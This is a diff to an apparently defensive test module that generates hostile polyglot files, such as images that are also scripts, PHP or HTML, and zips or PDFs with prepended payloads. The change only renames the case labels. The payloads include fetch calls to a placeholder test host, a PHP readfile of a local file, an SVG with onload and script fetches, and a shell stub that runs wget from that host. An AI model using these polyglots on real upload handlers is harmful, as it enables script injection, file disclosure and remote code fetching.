@@ -1,4 +1,4 @@
-/** Files that are two things at once, for whoever looks at one and runs the other. */
+/** Polyglots: files that are valid in two formats, where one is checked and the other executed. */
 import sharp from 'sharp'
 import { paragraph, writeDocx } from '../support/write-docx.ts'
 import { rawZip } from './archives.ts'
@@ -33,19 +33,19 @@ export async function polyglots({ http, text, video }: Targets): Promise<Hostile
   const list = `\n#EXTM3U\n#EXTINF:1,\nfile://${video}\n#EXTINF:1,\n${http}/p.ts\n#EXT-X-ENDLIST\n`
   return [
     both('gif and a script', 'photo.gif', gif, `*/=1;fetch("${http}/gifjs");/*`),
-    both('jpg and a page', 'photo.jpg', jpeg.subarray(0, 2), commented, comment, jpeg.subarray(2), script),
+    both('jpg and html', 'photo.jpg', jpeg.subarray(0, 2), commented, comment, jpeg.subarray(2), script),
     both('png and php', 'photo.php', png, `<?php readfile("${text}"); ?>`),
-    both('jpg and a jar', 'photo.jar', jpeg, zip),
+    both('jpg and jar', 'photo.jar', jpeg, zip),
     both('png and a playlist', 'photo.png', png, list),
-    both('webp and a page', 'photo.html', webp, script),
+    both('webp and html', 'photo.html', webp, script),
     both('pdf and a zip', 'paper.zip', pdf, zip),
-    both('pdf and a page', 'paper.html', pdf, script),
+    both('pdf and html', 'paper.html', pdf, script),
     both('zip before a pdf', 'paper.pdf', zip, pdf),
-    both('a document and a pdf', 'letter.pdf', docx, pdf),
-    both('a page before a picture', 'photo.jpg', '<html><body>', script, jpeg),
-    both('a shell script before a zip', 'setup.zip', `#!/bin/sh\nwget ${http}/sh\n`, zip),
+    both('docx and pdf', 'letter.pdf', docx, pdf),
+    both('html before jpg', 'photo.jpg', '<html><body>', script, jpeg),
+    both('shell script before zip', 'setup.zip', `#!/bin/sh\nwget ${http}/sh\n`, zip),
     both(
-      'a drawing that is a page',
+      'svg with scripts',
       'photo.svg',
       `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="fetch('${http}/on')"><script>fetch("${http}/js")</script></svg>`,
     ),
